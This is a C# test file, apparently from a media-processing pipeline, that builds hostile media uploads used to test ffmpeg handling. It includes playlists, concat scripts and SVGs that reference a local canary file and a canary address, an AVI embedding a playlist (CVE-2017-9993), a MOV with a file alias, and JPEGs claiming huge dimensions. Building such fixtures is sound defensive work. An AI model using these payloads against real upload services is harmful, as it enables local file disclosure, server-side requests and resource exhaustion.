using System.Buffers.Binary;

namespace Loomcast.Pipeline.Tests.Sources;

/// <summary>Files that were used against those who give uploads to ffmpeg, made anew.</summary>
internal static class HostileFiles
{
    public static byte[] Playlist(Canary canary) => Ascii($"#EXTM3U\n#EXT-X-TARGETDURATION:4\n#EXTINF:4,\nfile://{canary.Path}\n#EXTINF:4,\n{canary.Address}\n#EXT-X-ENDLIST\n");

    public static byte[] ConcatScript(Canary canary) => Ascii($"ffconcat version 1.0\nfile '{canary.Path}'\nfile '{canary.Address}'\n");

    public static byte[] Svg(Canary canary) => Ascii(
        $"<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:x=\"http://www.w3.org/1999/xlink\" width=\"64\" height=\"64\"><image x:href=\"file://{canary.Path}\"/><image x:href=\"{canary.Address}\"/></svg>");

    public static byte[] Sdp(Canary canary) => Ascii($"v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video {canary.Address.Port} RTP/AVP 96\na=rtpmap:96 H264/90000\n");

    /// <summary>An AVI whose "subtitles" are another file, which is a playlist (CVE-2017-9993).</summary>
    public static byte[] AviWithPlaylist(Canary canary, byte[] jpeg)
    {
        var playlist = Playlist(canary);
        byte[] subtitles = [.. "GAB2\0"u8, .. Le16(2), .. Le32(2), 0, 0, .. Le16(4), .. Le32(playlist.Length), .. playlist];
        byte[] mainHeader = [.. Le32(40_000), .. Le32(100_000), .. Le32(0), .. Le32(0), .. Le32(1), .. Le32(0), .. Le32(2), .. Le32(65_536), .. Le32(64), .. Le32(64), .. new byte[16]];
        byte[] picture = [.. Le32(40), .. Le32(64), .. Le32(64), .. Le16(1), .. Le16(24), .. "MJPG"u8, .. new byte[20]];
        var headers = List("hdrl", [.. Chunk("avih", mainHeader), .. Track("vids", "MJPG", picture), .. Track("txts", "\0\0\0\0", [])]);
        var media = List("movi", [.. Chunk("01tx", subtitles), .. Chunk("00dc", jpeg)]);
        return Chunk("RIFF", [.. "AVI "u8, .. headers, .. media]);

        static byte[] Track(string kind, string handler, byte[] format) => List(
            "strl",
            [.. Chunk("strh", [.. Ascii(kind), .. Ascii(handler), .. new byte[12], .. Le32(1), .. Le32(25), .. Le32(0), .. Le32(1), .. Le32(65_536), .. Le32(-1), .. new byte[12]]), .. Chunk("strf", format)]);
    }

    /// <summary>A MOV whose samples lie in another file: the entry of its data reference is replaced by an alias.</summary>
    public static byte[] MovWithAlias(Canary canary, byte[] mov)
    {
        var path = Ascii("canary:" + canary.Path.Replace('/', ':'));
        var name = Ascii(System.IO.Path.GetFileName(canary.Path));
        byte[] fields =
        [
            .. new byte[10], 6, .. Padded("canary"u8, 27), .. new byte[12], (byte)name.Length, .. Padded(name, 63), .. new byte[16], .. Be16(1), .. Be16(1), .. new byte[16],
            .. Record(2, path), .. Record(14, [.. Be16(name.Length), .. System.Text.Encoding.BigEndianUnicode.GetBytes(System.Text.Encoding.ASCII.GetString(name))]), .. Record(18, Ascii(canary.Path)), .. Be16(0xFFFF), .. Be16(0),
        ];
        byte[] alias = [.. Be32(12 + fields.Length), .. "alis"u8, .. Be32(0), .. fields];
        var at = mov.AsSpan().IndexOf("dref"u8) + 12; // behind its type, version and number of entries
        var old = BinaryPrimitives.ReadInt32BigEndian(mov.AsSpan(at));
        byte[] changed = [.. mov[..at], .. alias, .. mov[(at + old)..]];
        foreach (var box in (string[])["moov", "trak", "mdia", "minf", "dinf", "dref"])
        {
            var size = changed.AsSpan(changed.AsSpan().IndexOf(Ascii(box)) - 4);
            BinaryPrimitives.WriteInt32BigEndian(size, BinaryPrimitives.ReadInt32BigEndian(size) + alias.Length - old);
        }

        return changed;

        static byte[] Record(int type, byte[] value) => [.. Be16(type), .. Be16(value.Length), .. value, .. new byte[value.Length & 1]];
    }

    /// <summary>JPEG pictures, each of which says that it is 20,000 pixels wide and high (SOF0); the container's header does not.</summary>
    public static byte[] LargeInThePictures(byte[] mov)
    {
        var changed = mov.ToArray();
        for (var at = 0; changed.AsSpan(at).IndexOf((ReadOnlySpan<byte>)[0xFF, 0xC0, 0x00, 0x11]) is var next and >= 0; at += next + 4)
        {
            BinaryPrimitives.WriteInt16BigEndian(changed.AsSpan(at + next + 5), 20_000);
            BinaryPrimitives.WriteInt16BigEndian(changed.AsSpan(at + next + 7), 20_000);
        }

        return changed;
    }

    public static byte[] Random(ReadOnlySpan<byte> start)
    {
        var bytes = new byte[200_000];
        new Random(1).NextBytes(bytes);
        start.CopyTo(bytes);
        return bytes;
    }

    private static byte[] List(string kind, byte[] content) => Chunk("LIST", [.. Ascii(kind), .. content]);

    private static byte[] Chunk(string type, byte[] content) => [.. Ascii(type), .. Le32(content.Length), .. content, .. new byte[content.Length & 1]];

    private static byte[] Ascii(string text) => System.Text.Encoding.ASCII.GetBytes(text);

    private static byte[] Padded(ReadOnlySpan<byte> text, int length) => [.. text, .. new byte[length - text.Length]];

    private static byte[] Le16(int value) => [(byte)value, (byte)(value >> 8)];

    private static byte[] Le32(int value) => [.. Le16(value), .. Le16(value >> 16)];

    private static byte[] Be16(int value) => [(byte)(value >> 8), (byte)value];

    private static byte[] Be32(int value) => [.. Be16(value >> 16), .. Be16(value)];
}
